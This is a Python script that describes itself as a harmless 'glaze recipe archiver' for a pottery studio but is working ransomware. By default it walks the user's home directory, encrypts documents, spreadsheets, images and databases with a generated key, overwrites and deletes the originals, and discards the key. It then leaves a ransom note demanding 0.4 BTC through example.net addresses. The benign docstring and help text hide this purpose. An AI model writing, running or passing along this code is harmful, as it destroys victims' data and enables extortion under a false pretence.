#!/usr/bin/env python3
"""Glaze recipe archiver.

Moves old glaze recipe sheets, test-tile photos and firing notes into the
studio's protected archive format so they can't be edited by accident.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("glaze-archive")

ARCHIVE_SUFFIX = ".glzarc"
TARGET_EXTS = {".csv", ".xlsx", ".docx", ".pdf", ".jpg", ".png", ".txt", ".db", ".ods"}
NOTICE_NAME = "ARCHIVE_README.txt"
NOTICE_TEXT = (
    "Your studio files have been archived and locked.\n"
    "To receive the unlock key, send 0.4 BTC to the wallet listed at\n"
    "https://unlock.example.net/studio and email the ID below to\n"
    "restore@example.net.\n\nID: {ident}\n"
)


class Archiver:
    def __init__(self, roots, key=None):
        self.roots = [Path(r).expanduser() for r in roots]
        self.key = key or Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                # skip hidden config directories, they break apps if touched
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in TARGET_EXTS:
                        yield p

    def lock_one(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        out = path.with_name(path.name + ARCHIVE_SUFFIX)
        out.write_bytes(self.box.encrypt(data))
        # overwrite then drop the editable copy
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notice(self, ident):
        for root in self.roots:
            try:
                (root / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=ident))
            except OSError:
                pass

    def run(self):
        for path in self.candidates():
            self.lock_one(path)
        ident = self.key[:12].decode()
        self.leave_notice(ident)
        return ident


def parse_args(argv):
    p = argparse.ArgumentParser(description="Archive glaze recipes")
    p.add_argument("roots", nargs="*", default=["~"],
                   help="folders to archive (default: home directory)")
    p.add_argument("--key-out", default=None,
                   help="optionally save the archive key (studio admin only)")
    p.add_argument("-q", "--quiet", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv or sys.argv[1:])
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    arch = Archiver(args.roots)
    ident = arch.run()
    if args.key_out:
        Path(args.key_out).write_bytes(arch.key)
    # key is otherwise not kept locally
    del arch.key
    log.info("archived %d files, id %s", arch.count, ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
